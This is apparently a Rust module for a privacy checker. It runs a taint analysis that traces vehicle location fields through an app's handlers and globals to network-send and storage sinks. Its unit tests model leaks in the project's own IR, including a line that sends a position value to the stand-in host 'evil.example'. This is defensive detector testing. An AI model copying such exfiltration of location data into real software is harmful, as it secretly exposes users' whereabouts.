//! Forward may-taint analysis from sensitive message fields to network and
//! storage sinks.
//!
//! Locals are tracked flow-sensitively per block; globals are a single
//! flow-insensitive set shared by all handlers, so taint written in one
//! invocation reaches reads in any later one.

use std::collections::{BTreeMap, BTreeSet, VecDeque};

use serde::{Deserialize, Serialize};

use crate::ir::{AppProgram, BlockIdx, Handler, Instruction, Terminator};
use crate::sim::bus::Field;

use super::usage::is_location_field;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum SinkKind {
    NetSend,
    Storage,
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Sink {
    NetSend(String),
    Storage(String),
}

impl Sink {
    pub fn kind(&self) -> SinkKind {
        match self {
            Sink::NetSend(_) => SinkKind::NetSend,
            Sink::Storage(_) => SinkKind::Storage,
        }
    }
}

impl std::fmt::Display for Sink {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Sink::NetSend(h) => write!(f, "net_send({h})"),
            Sink::Storage(k) => write!(f, "storage({k})"),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct TaintFlow {
    pub source: Field,
    pub sink: Sink,
    /// `handler/block` of the sink instruction.
    pub location: String,
    /// Blocks from a source-reading block to the sink block; a step from a
    /// halting block to a handler entry stands for a later invocation.
    pub witness_path: Vec<String>,
}

/// Source field and the (handler, block) that read it.
pub type Label = (Field, usize, BlockIdx);
type Taint = BTreeSet<Label>;

pub fn location_sources() -> BTreeSet<Field> {
    Field::ALL.into_iter().filter(|f| is_location_field(*f)).collect()
}

pub fn all_sinks() -> BTreeSet<SinkKind> {
    [SinkKind::NetSend, SinkKind::Storage].into()
}

struct Ctx<'a> {
    p: &'a AppProgram,
    sources: &'a BTreeSet<Field>,
}

impl Ctx<'_> {
    /// Applies one instruction to the local taint state, growing `globals`
    /// on writes. Returns true if a global grew.
    fn transfer(
        &self,
        hi: usize,
        b: BlockIdx,
        ins: &Instruction,
        locals: &mut [Taint],
        globals: &mut [Taint],
    ) -> bool {
        let union = |vs: &[usize], locals: &[Taint]| -> Taint {
            vs.iter().flat_map(|v| locals[*v].iter().copied()).collect()
        };
        match ins {
            Instruction::Const { dst, .. } | Instruction::TableLen { dst, .. } => {
                locals[*dst].clear();
            }
            Instruction::ReadField { dst, field } => {
                locals[*dst] = if self.sources.contains(field) {
                    [(*field, hi, b)].into()
                } else {
                    Taint::new()
                };
            }
            Instruction::ReadGlobal { dst, global } => locals[*dst] = globals[*global].clone(),
            Instruction::WriteGlobal { global, src } => {
                let before = globals[*global].len();
                globals[*global].extend(locals[*src].iter().copied());
                return globals[*global].len() != before;
            }
            Instruction::BinOp { dst, a, b: rhs, .. } => {
                let mut vs = vec![*a];
                vs.extend(*rhs);
                locals[*dst] = union(&vs, locals);
            }
            Instruction::TableLookup { dst, index, .. } => locals[*dst] = locals[*index].clone(),
            Instruction::Publish { .. } | Instruction::NetSend { .. } | Instruction::Store { .. } => {}
        }
        false
    }

    /// Block-entry taint states of one handler at the fixpoint, given the
    /// current global taint. `None` marks unreachable blocks.
    fn handler_fixpoint(&self, hi: usize, globals: &mut [Taint]) -> (Vec<Option<Vec<Taint>>>, bool) {
        let h = &self.p.handlers[hi];
        let mut inn: Vec<Option<Vec<Taint>>> = vec![None; h.blocks.len()];
        inn[h.entry] = Some(vec![Taint::new(); h.locals.len()]);
        let mut grew = false;
        let mut work: VecDeque<BlockIdx> = [h.entry].into();
        while let Some(b) = work.pop_front() {
            let mut state = inn[b].clone().expect("queued blocks have state");
            for ins in &h.blocks[b].body {
                grew |= self.transfer(hi, b, ins, &mut state, globals);
            }
            for s in h.blocks[b].term.successors() {
                let changed = match &mut inn[s] {
                    None => {
                        inn[s] = Some(state.clone());
                        true
                    }
                    Some(cur) => {
                        let mut changed = false;
                        for (c, n) in cur.iter_mut().zip(&state) {
                            let len = c.len();
                            c.extend(n.iter().copied());
                            changed |= c.len() != len;
                        }
                        changed
                    }
                };
                if changed && !work.contains(&s) {
                    work.push_back(s);
                }
            }
        }
        (inn, grew)
    }
}

fn node_name(p: &AppProgram, hi: usize, b: BlockIdx) -> String {
    let h = &p.handlers[hi];
    format!("{}/{}", h.trigger, h.blocks[b].id)
}

/// Shortest block path from `from` to `to`, inside one handler when
/// possible, otherwise across invocations (halt -> any handler entry).
fn witness(p: &AppProgram, from: (usize, BlockIdx), to: (usize, BlockIdx)) -> Vec<String> {
    let succ = |(hi, b): (usize, BlockIdx), cross: bool| -> Vec<(usize, BlockIdx)> {
        let h: &Handler = &p.handlers[hi];
        match h.blocks[b].term {
            Terminator::Halt if cross => {
                (0..p.handlers.len()).map(|j| (j, p.handlers[j].entry)).collect()
            }
            ref t => t.successors().into_iter().map(|s| (hi, s)).collect(),
        }
    };
    for cross in [false, true] {
        let mut prev = BTreeMap::new();
        let mut queue = VecDeque::from([from]);
        prev.insert(from, from);
        while let Some(n) = queue.pop_front() {
            if n == to {
                let mut path = vec![n];
                let mut cur = n;
                while cur != from {
                    cur = prev[&cur];
                    path.push(cur);
                }
                path.reverse();
                return path.into_iter().map(|(h, b)| node_name(p, h, b)).collect();
            }
            for s in succ(n, cross) {
                if let std::collections::btree_map::Entry::Vacant(e) = prev.entry(s) {
                    e.insert(n);
                    queue.push_back(s);
                }
            }
        }
    }
    // Unreachable in practice: a label only reaches a sink along CFG edges.
    vec![node_name(p, from.0, from.1), node_name(p, to.0, to.1)]
}

pub fn taint_analysis(
    p: &AppProgram,
    sources: &BTreeSet<Field>,
    sinks: &BTreeSet<SinkKind>,
) -> Vec<TaintFlow> {
    let ctx = Ctx { p, sources };
    let mut globals = vec![Taint::new(); p.globals.len()];
    let mut states;
    loop {
        states = Vec::new();
        let mut grew = false;
        for hi in 0..p.handlers.len() {
            let (inn, g) = ctx.handler_fixpoint(hi, &mut globals);
            grew |= g;
            states.push(inn);
        }
        if !grew {
            break;
        }
    }

    let mut best: BTreeMap<(Field, Sink, String), Vec<String>> = BTreeMap::new();
    let mut scratch = globals.clone();
    for (hi, h) in p.handlers.iter().enumerate() {
        for (b, block) in h.blocks.iter().enumerate() {
            let Some(mut state) = states[hi][b].clone() else {
                continue;
            };
            for ins in &block.body {
                let hit = match ins {
                    Instruction::NetSend { host, values } => Some((Sink::NetSend(host.clone()), values)),
                    Instruction::Store { key, values } => Some((Sink::Storage(key.clone()), values)),
                    _ => None,
                };
                if let Some((sink, values)) = hit.filter(|(s, _)| sinks.contains(&s.kind())) {
                    let labels: Taint = values.iter().flat_map(|v| state[*v].iter().copied()).collect();
                    for (field, oh, ob) in labels {
                        let path = witness(p, (oh, ob), (hi, b));
                        let key = (field, sink.clone(), node_name(p, hi, b));
                        let slot = best.entry(key).or_insert_with(|| path.clone());
                        if path.len() < slot.len() {
                            *slot = path;
                        }
                    }
                }
                ctx.transfer(hi, b, ins, &mut state, &mut scratch);
            }
        }
    }
    best.into_iter()
        .map(|((source, sink, location), witness_path)| TaintFlow {
            source,
            sink,
            location,
            witness_path,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ir::parse_program;

    fn flows(text: &str) -> Vec<TaintFlow> {
        taint_analysis(&parse_program(text).unwrap(), &location_sources(), &all_sinks())
    }

    #[test]
    fn direct_leak() {
        let f = flows(
            "app a\nhandler vehicle_report:\n block b:\n  x = field vehicle_report.position.x\n  netsend \"evil.example\" x\n  halt\n",
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].source, Field::PositionX);
        assert_eq!(f[0].sink, Sink::NetSend("evil.example".into()));
        assert_eq!(f[0].witness_path, vec!["vehicle_report/b"]);
    }

    #[test]
    fn const_overwrite_clears_taint() {
        let f = flows(
            "app a\nhandler vehicle_report:\n block b:\n  x = field vehicle_report.position.x\n  x = const 1\n  store \"k\" x\n  halt\n",
        );
        assert!(f.is_empty());
    }

    #[test]
    fn taint_through_merge_and_global() {
        let text = "app a
global last = 0
handler vehicle_report:
  block entry:
    s = field vehicle_report.speed
    z = const 0
    c = lt z s
    branch c left right
  block left:
    v = field vehicle_report.position.y
    jump join
  block right:
    v = const 0
    jump join
  block join:
    setglobal last v
    halt
handler traffic_signal:
  block only:
    g = global last
    netsend \"ads.example\" g
    halt
";
        let f = flows(text);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].source, Field::PositionY);
        assert_eq!(
            f[0].witness_path,
            vec!["vehicle_report/left", "vehicle_report/join", "traffic_signal/only"]
        );
    }
}
